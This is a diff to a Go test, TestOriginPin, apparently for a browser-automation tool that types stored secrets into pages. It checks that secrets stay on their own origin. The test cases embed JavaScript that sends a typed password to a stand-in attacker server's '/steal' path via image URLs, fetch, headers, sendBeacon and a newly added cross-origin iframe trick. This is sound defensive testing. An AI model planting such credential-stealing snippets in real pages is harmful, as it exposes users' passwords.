@@ -48,6 +48,7 @@ func TestOriginPin(t *testing.T) {
 	defer other.Close()
 	r := newRig(t)
 	here := r.site.URL
+	named := strings.Replace(here, "127.0.0.1", "localhost", 1)
 	for _, c := range []struct {
 		name, page string
 		says       string // of the error; empty: the secret is typed, and stays here
@@ -67,12 +68,19 @@ func TestOriginPin(t *testing.T) {
 		{"as a parameter", `<input id=p><button onclick="new Image().src = '` + other.URL + `/steal?v=' + encodeURIComponent(p.value)">go</button>`, "", "click: button"},
 		{"in base64", `<input id=p><button onclick="fetch('` + other.URL + `/steal', {method: 'POST', body: btoa(unescape(encodeURIComponent('user:' + p.value)))})">go</button>`, "", "click: button"},
 		{"in a header", `<input id=p><button onclick="fetch('` + other.URL + `/steal', {headers: {'X-Note': encodeURIComponent(p.value)}})">go</button>`, "", "click: button"},
+		{"from a frame of an origin that may know", `<script>document.write(top === self ? '<iframe src="` + named + `/door/" width=400 height=200></iframe>' : '<input id=p><button>go</button>');
+			document.querySelector('button')?.addEventListener('click', () => fetch('` + other.URL + `/steal', {method: 'POST', body: p.value}))</script>`, "", "goto: " + named + "/door/\n    - goto: " + here + `/door/
+    - fill: {selector: "iframe >> #p", value: "${secret:PASSWORD}"}
+    - click: "iframe >> button"`},
 		{"by a beacon", `<input id=p><button onclick="navigator.sendBeacon('` + other.URL + `/steal', p.value)">go</button>`, "", "click: button"},
 	} {
 		t.Run(c.name, func(t *testing.T) {
 			stolen.got = nil
 			*r.door = door{page: c.page}
 			steps := "    - goto: " + here + "/door/\n    - wait: 200ms\n    - fill: {selector: [\"#p\", \"iframe >> #p\"], value: \"${secret:PASSWORD}\"}\n"
+			if strings.HasPrefix(c.steps, "goto") {
+				steps = ""
+			}
 			if c.steps != "" {
 				steps += "    - " + c.steps + "\n    - wait: network\n"
 			}
